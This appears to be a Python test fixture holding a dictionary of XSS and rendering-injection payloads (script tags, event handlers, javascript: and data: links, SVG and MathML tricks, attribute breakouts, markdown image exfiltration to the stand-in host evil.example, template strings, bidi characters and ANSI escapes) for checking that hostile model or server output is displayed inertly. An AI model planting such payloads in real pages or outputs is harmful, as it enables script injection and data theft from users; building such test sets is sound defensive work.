"""What a hostile model, file or server may say: each payload tries to run a script, to load something, or not to be shown as it is.

A script that ran would leave its mark in `window.ran`; whatever is loaded would come from evil.example.
"""

from __future__ import annotations

OUTSIDE = "evil.example"
_RUN = "window.ran=(window.ran||0)+1"
_URL = f"https://{OUTSIDE}"

PAYLOADS = {
    "script": f"<script>{_RUN}</script>",
    "script-upper": f"<SCRIPT/x>{_RUN}</SCRIPT >",
    "script-src": f'<script src="{_URL}/a.js"></script>',
    "script-in-script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-end": f"</script><script>{_RUN}</script>",
    "module": f"<script type=module>import '{_URL}/m.js'; {_RUN}</script>",
    "img-onerror": f'<img src=x: onerror="{_RUN}">',
    "img-load": f'<img src="{_URL}/pixel.png?q=secret" alt="">',
    "img-srcset": f'<img srcset="{_URL}/2x.png 2x" onload="{_RUN}">',
    "svg-onload": f'<svg onload="{_RUN}"><circle r=9></svg>',
    "svg-animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "svg-use": f'<svg><use href="{_URL}/s.svg#x"></use></svg>',
    "math": f'<math><mtext><img src=x: onerror="{_RUN}"></mtext></math>',
    "iframe": f'<iframe src="{_URL}/frame.html"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "object": f'<object data="{_URL}/o.html"></object><embed src="{_URL}/e.swf">',
    "video": f'<video src="{_URL}/v.mp4" poster="{_URL}/p.jpg" onerror="{_RUN}" autoplay></video>',
    "details": f'<details open ontoggle="{_RUN}"><summary>more</summary></details>',
    "autofocus": f'<input autofocus onfocus="{_RUN}">',
    "form": f'<form action="{_URL}/form"><input name=q><button formaction="javascript:{_RUN}">Go</button></form>',
    "link-javascript": f'<a href="javascript:{_RUN}">here</a>',
    "link-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>',
    "style-import": f"<style>@import url({_URL}/a.css); body{{background:url({_URL}/b.png)}}</style>",
    "style-attribute": f'<div style="position:fixed;inset:0;background:url({_URL}/c.png)">covered</div>',
    "link-css": f'<link rel=stylesheet href="{_URL}/l.css"><link rel=prefetch href="{_URL}/f">',
    "base-meta": f'<base href="{_URL}/"><meta http-equiv=refresh content="0;url={_URL}/gone">',
    "break-double": f'"><img src=x: onerror="{_RUN}"><b title="',
    "break-single": f"'><img src=x: onerror='{_RUN}'><b title='",
    "break-attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "break-table": f"</td></tr></table></div></pre></textarea></title><img src=x: onerror={_RUN}>",
    "comment": f"<!--><script>{_RUN}</script>-->",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp; &#60;b&#62;",
    "markdown-image": f"![picture]({_URL}/exfil.png?q=secret)",
    "markdown-link": f"[click me](javascript:{_RUN}) <{_URL}/auto>",
    "latex-dollar": "from $5 to $6, $x^2$ and $$\\int_0^1 x\\,dx$$",
    "latex-href": f"$\\href{{javascript:{_RUN}}}{{click}}$ \\(\\unicode{{x3c}}\\) \\[\\require{{html}}\\cssId{{x}}{{y}}\\]",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} %s {0} {x!r}",
    "backslash": r"\n \u003cscript\u003e \x3cb\x3e C:\new\table",
    "bidi": "abc \u202egnp.exe\u202c \u2066<b>x</b>\u2069",
    "zero-width": "a\u200b<\u200bb\u200b>c",
    "long-word": "W" * 600,
}
# Shown as it is in a table, but a terminal would obey it: JupyterLab's plain text output may swallow the codes, not the words.
ANSI = {"ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J"}
